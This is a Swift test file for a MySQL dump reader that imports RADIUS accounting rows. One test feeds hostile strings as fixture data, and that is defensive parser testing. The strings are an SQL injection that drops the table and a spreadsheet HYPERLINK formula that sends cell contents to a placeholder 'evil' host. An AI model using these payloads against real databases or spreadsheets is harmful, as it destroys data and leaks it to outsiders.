import Foundation
import TestSupport
import Testing

@testable import RadacctImport

/// The rows of `dump` read whole and in 1- and 7-byte chunks, which must agree.
func dumpRows(_ dump: String, table: String = "radacct") throws -> (columns: [String], rows: [[String?]]) {
    var reader = MySQLDumpReader(string: dump, table: table)
    let rows = try readAll(&reader)
    for chunkSize in [1, 7] {
        var chunked = MySQLDumpReader(string: dump, table: table, chunkSize: chunkSize)
        #expect(try readAll(&chunked) == rows, "chunk size \(chunkSize)")
        #expect(chunked.columns == reader.columns)
    }
    return (reader.columns, rows)
}

/// The error reading `dump` stops with.
func dumpError(_ dump: String) -> RadacctSourceError? {
    var reader = MySQLDumpReader(string: dump)
    do {
        _ = try readAll(&reader)
        return nil
    } catch {
        return error
    }
}

private let create = """
    CREATE TABLE `radacct` (
      `radacctid` bigint(21) NOT NULL AUTO_INCREMENT,
      `username` varchar(64) NOT NULL DEFAULT '',
      `acctinputoctets` bigint(20) DEFAULT NULL,
      `note` varchar(50) DEFAULT 'a,b) c' COMMENT 'it''s (odd)',
      PRIMARY KEY (`radacctid`),
      UNIQUE KEY `u` (`username`,`note`(10)),
      KEY `k` (`acctinputoctets`),
      INDEX i2 (username),
      FULLTEXT KEY f (note),
      CONSTRAINT `c1` CHECK (acctinputoctets >= 0)
    ) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;

    """

@Suite struct MySQLDumpReaderTests {
    @Test func columnsFromCreateTableSkipKeysAndConstraints() throws {
        let (columns, rows) = try dumpRows(create)
        #expect(columns == ["radacctid", "username", "acctinputoctets", "note"])
        #expect(rows.isEmpty)
    }

    @Test func hostileStringsComeThroughAsExactText() throws {
        let dump =
            create + """
                INSERT INTO `radacct` VALUES (1,'a''),(b','x);y',' \\'quoted\\' '),(2,'line1\\nline2\r\nreal newline','-- not a comment','/* nor this */'),
                (3,'\\'); DROP TABLE radacct; --','=HYPERLINK("http://evil/?"&A1,"click")','tab\\there\\0nul\\Zsub\\\\back\\%\\_\\b\\r\\"'),
                (-4,"double ""quoted"" 'single'",'# hash',NULL),(5.50,'',null,'');
                """
        let (_, rows) = try dumpRows(dump)
        #expect(
            rows == [
                ["1", "a'),(b", "x);y", " 'quoted' "],
                ["2", "line1\nline2\r\nreal newline", "-- not a comment", "/* nor this */"],
                ["3", "'); DROP TABLE radacct; --", "=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "tab\there\u{0}nul\u{1A}sub\\back\\%\\_\u{8}\r\""],
                ["-4", "double \"quoted\" 'single'", "# hash", nil],
                ["5.50", "", nil, ""],
            ])
    }

    @Test func otherTablesCommentsAndStatementsAreSkipped() throws {
        let dump = """
            -- MySQL dump 10.13
            /*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;
            # a hash comment with INSERT INTO radacct VALUES (9,'x','y','z');
            /* a block comment
               INSERT INTO radacct VALUES (8,'x','y','z'); */
            DROP TABLE IF EXISTS `radacct`;
            CREATE TABLE `radacct_old` (`a` int, `b` int);
            """ + create + """
                CREATE TABLE `radcheck` (`id` int, `value` varchar(9));
                LOCK TABLES `radcheck` WRITE;
                INSERT INTO `radcheck` VALUES (1,'radacct'),(2,'; INSERT INTO radacct VALUES (7,\\'a\\',\\'b\\',\\'c\\');'),(3,'(((');
                INSERT INTO `radacct_old` VALUES (1,2);
                INSERT INTO `radacct_archive` VALUES (99,'zed',999,'q'),(98,'yan',998,'r');
                INSERT INTO `other`.`radacct_archive` (`radacctid`,`username`,`acctinputoctets`,`note`) VALUES (97,'x',1,'s');
                INSERT INTO radacctx VALUES (1,2);
                UNLOCK TABLES;
                LOCK TABLES `radacct` WRITE;
                /*!40000 ALTER TABLE `radacct` DISABLE KEYS */;
                INSERT INTO `radacct` VALUES (1,'alice',100,'n'),/* inline */ (2,'bob',-- trailing comment
                200,'m');
                /*!40000 ALTER TABLE `radacct` ENABLE KEYS */;
                UNLOCK TABLES;
                SET @a = 'INSERT INTO radacct VALUES (6)';
                INSERT INTO `radcheck` VALUES (4,'radacct');
                """
        let (columns, rows) = try dumpRows(dump)
        #expect(columns == ["radacctid", "username", "acctinputoctets", "note"])
        #expect(rows == [["1", "alice", "100", "n"], ["2", "bob", "200", "m"]])
    }

    @Test func insertFormsAndQualifiedNames() throws {
        let dump =
            create + """
                insert into radacct values (1,'a',10,'x');
                INSERT IGNORE INTO `tollgate`.`RADACCT` VALUES (2,'b',20,'y');
                REPLACE INTO db.radacct VALUES (3,'c',30,'z');
                INSERT INTO `radacct` VALUES (4,'d',40,'w') ON DUPLICATE KEY UPDATE note = 'a;b';
                INSERT INTO `radacct` (`note`, username, `acctinputoctets`, `radacctid`) VALUES ('v','e',50,5),('u','f',60,6);
                INSERT INTO radacct VALUE (7,_binary 'g',0x3730,X'74'),(8,N'h',+8.5e-1,_utf8mb4'i'),(9,_binary 0x6A,TRUE,FALSE);
                """
        let (columns, rows) = try dumpRows(dump)
        #expect(columns == ["radacctid", "username", "acctinputoctets", "note"])
        #expect(
            rows == [
                ["1", "a", "10", "x"], ["2", "b", "20", "y"], ["3", "c", "30", "z"], ["4", "d", "40", "w"],
                ["5", "e", "50", "v"], ["6", "f", "60", "u"], ["7", "g", "70", "t"], ["8", "h", "8.5e-1", "i"], ["9", "j", "1", "0"],
            ])
    }

    @Test func columnListWithoutCreateTable() throws {
        let dump = "INSERT INTO `radacct` (`radacctid`,`acctinputoctets`) VALUES\n(1,5),\n(2,NULL);\n"
        let (columns, rows) = try dumpRows(dump)
        #expect(columns == ["radacctid", "acctinputoctets"])
        #expect(rows == [["1", "5"], ["2", nil]])
    }

    @Test func anotherTableByName() throws {
        let dump = create + "INSERT INTO `radacct` VALUES (1,'a',1,'b');\nINSERT INTO `radacct_2024` (`x`) VALUES ('kept');\n"
        let (columns, rows) = try dumpRows(dump, table: "`Radacct_2024`")
        #expect(columns == ["x"])
        #expect(rows == [["kept"]])
    }

    @Test func latin1BytesAreRepairedAndUTF8Kept() throws {
        var bytes = Array((create + "INSERT INTO radacct VALUES (1,'Jos").utf8)
        bytes += [0xE9] // é in latin1
        bytes += Array("',1,'Zoë".utf8) + [0xFF, 0xC3] + Array("');".utf8)
        for chunkSize in [3, 65_536] {
            var reader = MySQLDumpReader(bytes: bytes, chunkSize: chunkSize)
            #expect(try readAll(&reader) == [["1", "José", "1", "Zoë\u{FF}\u{C3}"]])
        }
    }

    @Test func delimiterCommandsAreFollowed() throws {
        let dump =
            create + """
                DELIMITER ;;
                CREATE TRIGGER t BEFORE INSERT ON radcheck FOR EACH ROW BEGIN INSERT INTO radacct VALUES (9,'t',9,'t'); END ;;
                DELIMITER ;
                INSERT INTO radacct VALUES (1,'a',1,'a');
                """
        let (_, rows) = try dumpRows(dump)
        #expect(rows == [["1", "a", "1", "a"]])
    }

    @Test func truncatedFileIsAnErrorWithTheLine() {
        let error = dumpError(create + "INSERT INTO radacct VALUES (1,'a',1,'b'),\n(2,'b',2,'unterminated x);\n")
        #expect(error == RadacctSourceError(line: 14, "the string starting at line 14 is not closed before the end of the file"))
        let cut = dumpError(create + "INSERT INTO radacct VALUES (1,'a',1,'b'),\n(2,'b',")
        #expect(cut?.line == 14)
    }

    @Test func rowWithTooFewValuesIsAnError() {
        let error = dumpError(create + "INSERT INTO radacct VALUES (1,'a',1,'b'),\n\n(2,'b',3);")
        #expect(error == RadacctSourceError(line: 15, "a row of radacct has 3 values but the INSERT has 4 columns"))
    }

    @Test func insertWithoutKnownColumnsIsAnError() {
        let error = dumpError("-- no structure\nINSERT INTO radacct VALUES (1,2);")
        #expect(error?.line == 2)
        #expect(error?.message.hasPrefix("no column names for the INSERT into radacct") == true)
    }

    @Test func garbageInsideValuesIsAnError() {
        #expect(dumpError(create + "INSERT INTO radacct VALUES (1,'a',NOW(),'b');")?.line == 13)
        #expect(dumpError(create + "INSERT INTO radacct VALUES (1,'a',1 2,'b');")?.line == 13)
        #expect(dumpError(create + "INSERT INTO radacct VALUES (1,'a',1,'b') x (2,'b',2,'c');")?.line == 13)
        #expect(dumpError(create + "INSERT INTO radacct VALUES 1,'a',1,'b';")?.line == 13)
        #expect(dumpError(create + "INSERT INTO radacct SELECT * FROM other;")?.line == 13)
    }

    @Test func differentColumnSetsInOneDumpAreAnError() {
        let dump = create + "INSERT INTO radacct VALUES (1,'a',1,'b');\nINSERT INTO radacct (radacctid) VALUES (2);"
        #expect(dumpError(dump)?.line == 14)
    }

    @Test func missingFileIsAClearError() {
        #expect(throws: RadacctSourceError.self) { try MySQLDumpReader(path: "/nonexistent/dump.sql") }
        do {
            _ = try MySQLDumpReader(path: "/nonexistent/dump.sql")
        } catch {
            #expect(error.message.hasPrefix("cannot open /nonexistent/dump.sql: No such file or directory"))
        }
    }

    /// 200,000 rows on one line, as mysqldump writes them, read from a file through a
    /// 64 KiB buffer that never grows.
    @Test func largeDumpInConstantMemory() throws {
        let count = 200_000
        let path = temporaryPath("radacct", suffix: ".sql")
        defer { try? FileManager.default.removeItem(atPath: path) }
        var text = create + "INSERT INTO `radacct` VALUES "
        text.reserveCapacity(count * 40)
        for id in 1...count {
            if id > 1 { text += "," }
            text += "(\(id),'user\(id % 97)',\(id * 3),'n\\'\(id)')"
        }
        text += ";\n"
        try text.write(toFile: path, atomically: false, encoding: .utf8)

        var reader = try MySQLDumpReader(path: path)
        var rows = 0
        var octets = 0
        var last: [String?] = []
        while let row = try reader.next() {
            rows += 1
            octets += Int(row[2]!)!
            last = row
        }
        #expect(rows == 200_000)
        #expect(octets == 60_000_300_000)
        #expect(last == ["200000", "user83", "600000", "n'200000"])
        #expect(reader.inputBufferCapacity == 65_536)
    }
}
